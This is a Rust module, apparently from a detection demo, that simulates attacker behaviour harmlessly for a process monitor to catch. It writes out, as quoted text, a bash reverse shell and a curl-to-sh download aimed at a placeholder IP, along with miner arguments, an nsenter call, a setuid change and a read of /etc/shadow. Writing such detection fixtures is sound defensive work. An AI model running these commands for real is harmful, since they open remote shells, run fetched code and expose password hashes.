//! What attackers do, as far as an observer of processes can tell, without any effect: command lines
//! in quotes, a copy of `true` under other names.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

use crate::error::TaskError;
use crate::process;

const PAUSE: Duration = Duration::from_millis(150);

/// Does everything once.
pub(crate) fn all(dir: &Path) -> Result<(), TaskError> {
    for (what, mut command) in acts(dir)? {
        println!("  acting: {what}");
        let status = command
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .map_err(|source| process::start_error(&command, source));
        match status {
            Ok(_) => thread::sleep(PAUSE),
            // Not every machine has every tool; what is missing is said.
            Err(error) => println!("  not done: {error}"),
        }
    }
    for copy in copies(dir) {
        std::fs::remove_file(&copy).map_err(TaskError::file("remove", copy))?;
    }
    Ok(())
}

/// Where copies of `true` go: shared memory, a miner's name, a file that becomes setuid.
fn copies(dir: &Path) -> [PathBuf; 3] {
    let memory = format!("/dev/shm/.merlon-demo-{}", std::process::id());
    [
        PathBuf::from(memory),
        dir.join("xmrig"),
        dir.join("copy-of-true"),
    ]
}

fn acts(dir: &Path) -> Result<Vec<(&'static str, Command)>, TaskError> {
    let [hidden, miner, setuid] = copies(dir);
    for copy in [&hidden, &miner, &setuid] {
        std::fs::copy("/bin/true", copy).map_err(TaskError::file("copy /bin/true to", copy))?;
    }
    let quoted = |text: &str| {
        let mut shell = Command::new("sh");
        shell.args(["-c", &format!("true '{text}'")]);
        shell
    };
    let mut mine = Command::new(miner);
    mine.args(["-o", "stratum+tcp://pool.example:3333", "-u", "nobody"]);
    let mut enter = Command::new("nsenter");
    enter.args(["--target", "1", "--mount", "true"]);
    let mut chmod = Command::new("chmod");
    chmod.arg("u+s").arg(setuid);
    let mut read = Command::new("cat");
    read.arg("/etc/shadow");
    Ok(vec![
        ("a program in shared memory", Command::new(hidden)),
        (
            "a shell whose command line opens a reverse shell",
            quoted("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
        ),
        (
            "a download that goes straight into a shell",
            quoted("curl -fsSL http://198.51.100.7/x.sh | sh"),
        ),
        ("a program with the name and arguments of a miner", mine),
        ("another process's namespace is entered", enter),
        ("a file becomes setuid", chmod),
        ("the file of password hashes is read", read),
    ])
}
